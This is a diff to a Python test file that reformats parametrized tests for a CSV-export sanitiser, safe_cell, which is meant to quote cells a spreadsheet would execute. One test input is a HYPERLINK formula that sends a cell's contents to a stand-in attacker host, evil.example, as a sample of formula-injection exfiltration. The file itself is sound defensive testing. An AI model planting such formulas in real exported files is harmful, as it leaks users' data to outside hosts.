@@ -11,16 +11,26 @@ import pytest
 from credit import csvfiles
 
 
-@pytest.mark.parametrize("text", [
-    '=HYPERLINK("http://evil.example/?x="&A1,"演示")', "=1+1", "+86 511 1234", "-2+3",
-    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-3",
-])
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/?x="&A1,"演示")',
+        "=1+1",
+        "+86 511 1234",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\t=1+1",
+        "\r=1+1",
+        "-3",
+    ],
+)
 def test_text_a_spreadsheet_would_run_is_quoted(text):
     assert csvfiles.safe_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize("text", ["镇江演示有限公司", "91321102MA1X2Y3Z4W", "AAA", "a=b", "1-2", " =1",
-                                  "'quoted"])
+@pytest.mark.parametrize(
+    "text", ["镇江演示有限公司", "91321102MA1X2Y3Z4W", "AAA", "a=b", "1-2", " =1", "'quoted"]
+)
 def test_other_text_is_written_as_it_is(text):
     assert csvfiles.safe_cell(text) == text
 
